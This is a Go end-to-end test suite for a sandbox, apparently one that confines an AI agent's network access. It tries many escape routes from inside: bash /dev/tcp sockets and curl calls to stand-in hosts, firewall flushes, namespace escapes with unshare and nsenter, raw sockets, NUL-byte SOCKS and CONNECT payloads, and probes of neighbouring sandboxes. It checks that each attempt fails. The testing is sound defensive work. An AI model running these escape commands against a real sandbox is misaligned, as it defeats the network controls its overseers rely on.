package e2e

import (
	"fmt"
	"net"
	"os"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creel-run/creel/audit"
)

// sameSource connects to two names from one address and port, where both ways end in
// one listener: whose connection is it, that of the name that is allowed?
const sameSource = `python3 -c '
import socket
def reach(name):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("9.9.9.9", 40001)); s.connect((name, 80)); return s
first, second = reach("ok.test"), reach("no.test")
second.sendall(b"GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n"); print(second.recv(99))
'`

// TestEscapeNetwork: NET, layers 3 and 4, in a world where every address is the sink's.
func TestEscapeNetwork(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		a.run(t, "NET-02", attacks(scripts("bash -c 'exec 3<>/dev/tcp/no.test/443; echo MARK >&3; cat <&3'", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443; echo MARK >&3; cat <&3'",
			"bash -c 'exec 3<>/dev/tcp/"+publicAddr+"/22; echo MARK >&3; cat <&3'", "env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/no.test/22; echo MARK >&3; cat <&3'",
			"env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/2606:2800:220:1::1/25; echo MARK >&3; cat <&3'", sameSource), everyWay("curl -sS http://no.test/MARK", "curl -sS telnet://no.test:22/MARK </dev/null"))...)
		a.run(t, "NET-03", attack{what: "ports of a name", way: transparent, do: func(a *arena, mark string) string {
			x := a.probe("sweep", "no.test", mark)
			return string(x.Stdout) + string(x.Stderr)
		}}, attack{what: "ports of an address", way: cleared, do: func(a *arena, mark string) string {
			x := a.receive(a.send(order{Argv: []string{probePath(), "probe", "sweep", publicAddr, mark}, Clear: true}))
			return string(x.Stdout) + string(x.Stderr)
		}}, script("for p in 22 25 53 853 5432 6443 8080; do curl -sS -m 5 -p -x http://127.0.0.1:3128 telnet://no.test:$p/MARK </dev/null; done"),
			script("for p in 22 25 53 853 5432 6443 8080; do curl -sS -m 5 -x http://127.0.0.1:3128 http://no.test:$p/MARK; done"))
		// stays: what is denied stays denied, on every way in.
		stays := func(x *line) {
			for _, at := range everyWay("curl -sS http://no.test/MARK") {
				x.try(at.way, "afterwards", func(mark string) string { return at.do(a, mark) })
			}
		}
		a.escape(t, a.s, "NET-06", a.works, func(x *line) {
			defer stays(x)
			seq := len(x.events())
			for _, to := range []string{"192.0.2.5:4433", publicAddr + ":443", "8.8.8.8:123", "[2606:2800:220:1::1]:443"} {
				mark := x.mark()
				if got := x.probe("udp", to, mark); !strings.Contains(string(got.Stdout), "refused") {
					x.Errorf("udp to %s: %s%s", to, got.Stdout, got.Stderr)
				}
				if x.sink.holds(mark) {
					x.Errorf("a datagram to %s arrived", to)
				}
			}
			x.event(seq, "a refused packet", func(e audit.Event) bool {
				return e.Kind == audit.Refused && e.Protocol == "udp" && e.Host == "192.0.2.5"
			})
			// Broadcast and multicast end before any rule sees them.
			x.sh(`python3 -c '
import socket
for to in (("255.255.255.255", 123), ("224.0.0.251", 4433), ("239.1.1.1", 53)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"x", to)
    except OSError: pass'`)
			for _, c := range []string{"ping -c1 -W1 " + publicAddr, "ping -c1 -W1 -p 6d61726b " + publicAddr, "ping -6 -c1 -W1 ::2", "traceroute -n -w1 -m2 " + publicAddr,
				`python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.sendto(b"x", ("` + publicAddr + `", 0))'`,
				`python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b"\x08\0\0\0\0\0\0\0", ("` + publicAddr + `", 0))'`,
				`python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.connect(("` + publicAddr + `", 9))'`} {
				if got := x.do("sh", "-c", c); got.Code == 0 {
					x.Errorf("%s: succeeded: %s", c, got.Stdout)
				}
			}
			if n := x.sink.packets(); n > 0 {
				x.Errorf("%d datagrams arrived", n)
			}
		})
		a.escape(t, a.s, "NET-10", a.works, func(x *line) {
			defer stays(x)
			for _, way := range []string{inside, cleared} {
				x.way(way)
				if got := x.receive(x.send(order{Argv: []string{probePath(), "probe", "sockets"}, Clear: way == cleared})); got.Code != 0 {
					x.Errorf("%s%s", got.Stdout, got.Stderr)
				}
			}
		})
		fails := func(id string, commands ...string) {
			a.escape(t, a.s, id, a.works, func(x *line) {
				defer stays(x) // the rules still hold
				x.way(inside)
				for _, c := range commands {
					if got := x.do("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; "+c); got.Code == 0 {
						x.Errorf("%s: succeeded: %s", c, got.Stdout)
					}
				}
			})
		}
		fails("NET-07", "nft flush ruleset", "nft list ruleset", "iptables -t nat -F", "iptables-save | grep -q creel", "ip route del default", "ip route add 8.8.8.8 dev lo", "ip link set lo down", "ip addr add 10.9.9.9/8 dev lo",
			"ip link add veth0 type veth", "ip tuntap add t0 mode tun", "sysctl -w net.ipv4.ip_forward=1", "echo 1 > /proc/sys/net/ipv4/ip_forward", "tc qdisc add dev lo root netem", "setpriv --reuid 0 nft flush ruleset")
		fails("NET-08", "unshare -n true", "unshare -Urn true", "unshare -Un true", "unshare -U true", "bwrap --unshare-all --ro-bind / / true", "docker run x", "ip netns add x")
		fails("NET-09", "nsenter -t 1 -n true", "nsenter --net=/proc/1/ns/net true", "nsenter -t $$ -U -n true", "ip netns exec x true",
			"python3 -c 'import os; os.setns(os.open(\"/proc/self/ns/net\", 0), 0)'", "python3 -c 'import os; os.setns(os.pidfd_open(1, 0), 0x40000000)'")
		// Straight to the listeners, under every name they have; other protocols of proxies.
		straight := func(way, host string, port int, text string) attack {
			return attack{what: fmt.Sprintf("%q to %s port %d", text, host, port), do: func(a *arena, mark string) string {
				return a.wire(wire{Way: way, Host: host, Port: port, Payload: []byte(strings.ReplaceAll(text, "MARK", mark))})
			}}
		}
		get := "GET /MARK HTTP/1.1\r\nHost: no.test\r\n\r\n"
		a.run(t, "NET-15", straight(transparent, "127.0.0.1", 31001, get), straight(transparent, "::1", 31001, get), straight(absolute, "", 0, get), straight(cleared, "127.0.0.1", 31001, get),
			straight(absolute, "", 0, "\x05\x01\x00\x05\x01\x00\x03\x07no.test\x00\x50MARK"), straight(absolute, "", 0, "\x04\x01\x00\x50\x00\x00\x00\x01x\x00no.test\x00MARK"), straight(absolute, "", 0, "PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nMARK\r\n\r\n"),
			attack{what: "CONNECT to the listener", do: func(a *arena, mark string) string {
				return a.wire(wire{Way: connect, Host: "127.0.0.1", Port: 31001, Payload: []byte(strings.ReplaceAll(get, "MARK", mark))})
			}}, attack{what: "CONNECT to the proxy", do: func(a *arena, mark string) string {
				return a.wire(wire{Way: connect, Host: "::1", Port: 3128, Payload: []byte("CONNECT no.test:80 HTTP/1.1\r\nHost: no.test:80\r\n\r\n" + mark)})
			}}, attack{what: "TLS at the proxy", do: func(a *arena, mark string) string {
				return a.wire(wire{Way: absolute, Host: "ok.test", TLS: true, Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
			}})
		// SOCKS with a NUL byte in the name: there is no SOCKS, and no name holds one.
		nul := "no.test\x00.ok.test"
		a.run(t, "NAM-03", straight(absolute, "", 0, "\x05\x01\x00"+"\x05\x01\x00\x03"+string(rune(len(nul)))+nul+"\x00\x50GET /MARK HTTP/1.1\r\n\r\n"),
			straight(transparent, "127.0.0.1", 31001, "\x05\x01\x00\x05\x01\x00\x03\x01a\x00\x50MARK"),
			attack{what: "CONNECT with NUL", do: func(a *arena, mark string) string {
				return a.wire(wire{Way: connect, Head: "CONNECT " + nul + ":443 HTTP/1.1\r\nHost: " + nul + "\r\n\r\n", Payload: []byte(mark)})
			}}, straight(absolute, "", 0, "GET http://"+nul+"/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
			attack{what: "SNI with NUL", do: func(a *arena, mark string) string {
				return a.wire(wire{Way: cleared, Host: "ok.test", TLS: true, SNI: nul, Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
			}})
		// Servers of the agent's own, on its own loopback, keep working.
		if got := a.sh(`python3 -c '
import socket, threading
for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    s = socket.socket(fam); s.bind((addr, 0)); s.listen()
    c = socket.create_connection((addr, s.getsockname()[1])); p, _ = s.accept(); c.sendall(b"hello"); print(p.recv(5))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0)); v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.sendto(b"dgram", u.getsockname()); print(u.recv(9))
'`); strings.Count(got, "hello") != 2 || !strings.Contains(got, "dgram") {
			t.Errorf("loopback inside: %s", got)
		}
	})
}

// neighbourListens is a listening socket on port 9333 in /proc/net/tcp. The same
// number elsewhere is the agent's own, once it has tried the port.
var neighbourListens = regexp.MustCompile(`:2475 [0-9A-F]+:0000 0A`)

// TestEscapeNeighbours: NET-11, NET-12, NET-16 and CTL-09: two sandboxes side by
// side, and the host, which cannot connect to either.
func TestEscapeNeighbours(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		b := a.box.start(t) // the neighbour
		const serve = `python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(); open("/tmp/up" + sys.argv[2], "w").write("x")
while True:
    c, _ = s.accept(); c.sendall(b"neighbour-here"); open("/tmp/visited", "w").write("x"); c.close()' `
		for i, at := range []string{"0.0.0.0 9333", ":: 9334", "127.0.0.1 9335"} {
			b.send(order{Argv: []string{"sh", "-c", serve + at}})
			if got := b.sh(fmt.Sprintf("while ! [ -e /tmp/up%d ]; do sleep 0.02; done; echo up", 9333+i)); got != "up" {
				t.Fatal(got)
			}
		}
		visited := func(x *line) {
			if got := b.sh("cat /tmp/visited"); got == "x" {
				x.Error("the neighbour was reached")
			}
		}
		a.escape(t, a.s, "NET-11", func(x *line) string {
			// The control: from its own sandbox the server can be reached.
			if got := b.sh("curl -s telnet://127.0.0.1:9333 </dev/null"); got != "neighbour-here" {
				return "the server of the neighbour does not work: " + got
			}
			b.sh("rm -f /tmp/visited")
			return a.works(x)
		}, func(x *line) {
			for _, port := range []string{"9333", "9334", "9335", "9222"} {
				for _, host := range []string{"127.0.0.1", "[::1]", "0.0.0.0", "10.0.0.1", "169.254.1.1", "localhost"} {
					for _, at := range quiet(everyWay("curl -sS -g -m 5 http://" + host + ":" + port + "/MARK")) {
						got := x.unseen(at.way, at.what, func(mark string) string { return at.do(a, mark) })
						if strings.Contains(got, "neighbour-here") {
							x.Errorf("%s: %s", at.what, got)
						}
					}
				}
			}
			x.way(cleared)
			if got := x.sh("env -i /usr/bin/cat /proc/net/unix /proc/net/tcp; env -i /bin/ls /run/creel /tmp"); neighbourListens.MatchString(got) || strings.Contains(got, "control") {
				x.Errorf("the neighbour is visible: %s", got)
			}
			visited(x)
		})
		a.escape(t, a.s, "NET-12", a.works, func(x *line) {
			x.way(inside)
			// From outside: every address of the host on the ports where the agent listens.
			for _, port := range []string{"9333", "9334", "9335"} {
				for _, host := range []string{"127.0.0.1", "::1", publicAddr, "198.18.0.1"} {
					c, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), time.Second)
					if err == nil {
						_ = c.Close()
						x.Errorf("port %s of the sandbox can be reached from outside at %s", port, host)
					}
				}
			}
			visited(x)
		})
		a.escape(t, a.s, "NET-16", a.works, func(x *line) {
			x.way(inside)
			// The listeners of a sandbox lie in its own network namespace: neither the host nor a neighbour can use its proxy.
			for _, port := range []string{"3128", "31001"} {
				for _, host := range []string{"127.0.0.1", "::1", "198.18.0.1"} {
					if c, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), time.Second); err == nil {
						_ = c.Close()
						x.Errorf("the proxy is open to the host at %s:%s", host, port)
					}
				}
			}
			// What the neighbour asks its own proxy for is judged and recorded as the neighbour's.
			seq := len(x.events())
			for _, at := range everyWay("curl -sS http://ok.test/neighbours") {
				x.way(at.way)
				b.sh(at.what)
			}
			for _, e := range x.events()[seq:] {
				if strings.Contains(e.Path, "neighbours") {
					x.Errorf("a request of the neighbour is in this log: %+v", e)
				}
			}
		})
		a.escape(t, a.s, "CTL-09", a.works, func(x *line) {
			x.way(inside)
			// Nothing of Creel listens on the host's network: two sandboxes run now.
			for _, pid := range []int{a.cmd.Process.Pid, b.cmd.Process.Pid} {
				inodes := map[string]bool{}
				dir := fmt.Sprintf("/proc/%d/fd", pid)
				fds, err := os.ReadDir(dir)
				if err != nil {
					x.Fatal(err)
				}
				for _, fd := range fds {
					if to, err := os.Readlink(dir + "/" + fd.Name()); err == nil && strings.HasPrefix(to, "socket:[") {
						inodes[strings.Trim(to, "socket:[]")] = true
					}
				}
				for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6", "/proc/net/raw"} {
					for _, row := range strings.Split(readFile(x.T, f), "\n")[1:] {
						if c := strings.Fields(row); len(c) > 9 && inodes[c[9]] && c[3] == "0A" {
							x.Errorf("%s: Creel listens: %s", f, row)
						}
					}
				}
			}
		})
	})
}

// connecting loops inside: every connect carries the mark to a name that is denied.
const connecting = `while :; do curl -sS -m 5 -o /dev/null https://gone.test/LOOP; curl -sS -m 5 -o /dev/null http://gone.test/LOOP; curl -sS -m 5 -o /dev/null -x http://127.0.0.1:3128 http://gone.test/LOOP; curl -sS -m 5 -o /dev/null -p -x http://127.0.0.1:3128 http://gone.test/LOOP; env -i /usr/bin/curl -sS -m 5 -o /dev/null http://` + publicAddr + `:8080/LOOP; done 2>/dev/null`

// TestEscapeWindows (NET-13): a program connects in a loop from the agent's
// first instruction on, while the policy is loaded again and again, and while
// the supervisor is killed. Nothing of it arrives.
func TestEscapeWindows(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		with := readFile(t, a.policy)
		a.escape(t, a.s, "NET-13", func(x *line) string {
			fresh := &arena{live: a.box.start(t), s: a.s}
			x.live = fresh.live
			return fresh.works(x)
		}, func(x *line) {
			for _, way := range []string{transparent, connect, absolute, cleared} {
				x.way(way)
			}
			// The start: ten sandboxes whose command connects at once.
			for range 10 {
				a.box.run(x.T, "/bin/sh", "-c", "curl -sS -m 5 http://gone.test/LOOP; curl -sS -m 5 -x http://127.0.0.1:3128 http://gone.test/LOOP; curl -sS -m 5 -p -x http://127.0.0.1:3128 http://gone.test/LOOP; env -i /usr/bin/curl -sS -m 5 http://"+publicAddr+":8080/LOOP")
			}
			// Reloads: thirty revisions, every third one faulty.
			for range 4 {
				x.send(order{Argv: []string{"sh", "-c", connecting}})
			}
			for i := range 30 {
				seq := len(x.events())
				text := with
				if i%3 == 1 {
					text = "version: 2\nnetwork_policies: [\n"
				}
				write(x.T, a.policy, text+fmt.Sprintf("# %d\n", i))
				x.event(seq, "the revision", func(e event) bool { return e.Kind == audit.PolicyLoad || e.Kind == audit.PolicyReject })
			}
			x.denied(0)
			// The end: the supervisor is killed while they connect.
			for range 5 {
				l := a.box.start(x.T)
				for range 3 {
					l.send(order{Argv: []string{"sh", "-c", connecting}})
				}
				l.event(0, "a denial", func(e event) bool { return e.Verdict == "deny" })
				if err := l.cmd.Process.Signal(syscall.SIGKILL); err != nil {
					x.Fatal(err)
				}
				select {
				case <-l.done:
				case <-time.After(patience):
					x.Fatal("the sandbox outlives its supervisor")
				}
			}
			if x.sink.holds("LOOP") {
				x.Error("a connection got out in a window")
			}
			if n := x.sink.connections(); n > 0 {
				x.Errorf("%d connections arrived at the sink", n)
			}
		})
	})
}

// TestEscapeRevoked (NET-14): a stream that is open when its rule is taken away
// is cut within a second, on every way in.
func TestEscapeRevoked(t *testing.T) {
	inWorld(t, func(t *testing.T) {
		a, _ := newWorldArena(t)
		out := &streams{}
		a.s.extra = out
		with := readFile(t, a.policy)
		without := strings.ReplaceAll(with, "host: ok.test", "host: other.test")
		a.escape(t, a.s, "NET-14", func(x *line) string {
			seq := len(x.events())
			write(x.T, a.policy, with)
			x.event(seq, "the policy is loaded", func(e event) bool { return e.Kind == policyLoaded })
			return a.works(x)
		}, func(x *line) {
			var all []<-chan answer
			for _, at := range everyWay("curl -sS -m 60 -N -o /dev/null http://ok.test/x/a", "curl -sSk -m 60 -N -o /dev/null https://ok.test/x/a") {
				x.way(at.way)
				all = append(all, x.send(order{Argv: []string{"sh", "-c", strings.ReplaceAll(at.what, "-m 10 ", "")}}))
			}
			if !eventually(func() bool { return out.open[0].Load() == int64(len(all)) }) {
				x.Fatalf("%d of %d streams flow", out.open[0].Load(), len(all))
			}
			seq, from := len(x.events()), time.Now()
			write(x.T, a.policy, without)
			for _, c := range all {
				if end := x.receive(c); end.Code == 0 {
					x.Errorf("a cut stream looks complete: %+v", end)
				}
			}
			if took := time.Since(from); took > 3*time.Second { // the promise is one second; this machine is busy
				x.Errorf("cut after %v", took)
			}
			x.event(seq, "the cut", func(e event) bool {
				return e.Verdict == "deny" && e.Host == "ok.test" && strings.Contains(e.Reason, "changed policy")
			})
		})
	})
}
